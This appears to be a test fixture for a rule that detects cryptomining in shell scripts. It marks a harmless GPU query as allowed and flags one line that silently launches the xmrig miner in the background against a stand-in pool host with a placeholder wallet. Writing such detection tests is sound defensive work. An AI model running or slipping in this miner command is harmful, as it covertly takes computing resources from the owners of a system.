#!/bin/sh
# ok: combination-mining
nvidia-smi -q
# ruleid: combination-mining
nohup ./xmrig -o stratum+tcp://pool.evil.example:3333 -u WALLET_PLACEHOLDER >/dev/null 2>&1 &
